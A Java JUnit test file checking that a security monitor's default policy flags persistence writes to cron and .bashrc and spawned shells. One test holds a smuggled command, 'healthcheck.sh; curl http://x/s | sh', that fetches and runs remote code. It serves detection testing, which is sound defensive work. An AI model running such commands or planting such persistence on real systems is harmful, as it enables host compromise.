package dev.osapimonitor.processors.engine;

import static org.assertj.core.api.Assertions.assertThat;

import dev.osapimonitor.bootstrap.OsApiOps;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Paths;
import java.util.List;
import org.junit.jupiter.api.Test;

/** The shipped default policy's triggers do what their descriptions say, through the real engine. */
class DefaultPolicyTest {

  private static String defaultPolicy() throws Exception {
    return Files.readString(Paths.get("..", "examples", "policies", "default.yaml"), StandardCharsets.UTF_8);
  }

  private static List<String> firedRules(EngineHarness h) {
    return h.named("osapi.audit trigger.fire").stream()
        .map(s -> s.getAttributes().get(AuditLog.FLAG)).toList();
  }

  @Test
  void aCronFileMovedOrCopiedIntoPlaceIsAPersistenceTrigger() throws Exception {
    try (EngineHarness h = new EngineHarness(defaultPolicy())) {
      h.call(OsApiOps.FILE_RENAME, "/tmp/staged", "/etc/cron.d/backdoor", 0);
      assertThat(firedRules(h)).containsExactly("persistence-file-written");
    }
    try (EngineHarness h = new EngineHarness(defaultPolicy())) {
      h.call(OsApiOps.FILE_COPY, "/tmp/staged", "/home/op/.bashrc", 0);
      assertThat(firedRules(h)).containsExactly("persistence-file-written");
    }
    try (EngineHarness h = new EngineHarness(defaultPolicy())) {
      h.call(OsApiOps.FILE_OPEN, "/etc/crontab", null, OsApiOps.MODE_READ); // reading is not persistence
      h.call(OsApiOps.FILE_RENAME, "/srv/data/a.csv", "/srv/data/b.csv", 0);
      assertThat(firedRules(h)).isEmpty();
    }
  }

  @Test
  void theHealthCheckExceptionCoversExactlyTheHealthCheck() throws Exception {
    try (EngineHarness h = new EngineHarness(defaultPolicy())) {
      h.call(OsApiOps.PROCESS_EXEC, new ProcessBuilder("/bin/sh", "-c", "/opt/hmi/bin/healthcheck.sh"), null, 0);
      assertThat(firedRules(h)).isEmpty();
      h.call(OsApiOps.PROCESS_EXEC,
          new ProcessBuilder("/bin/sh", "-c", "/opt/hmi/bin/healthcheck.sh; curl http://x/s | sh"), null, 0);
      assertThat(firedRules(h)).containsExactly("shell-spawned");
    }
  }
}
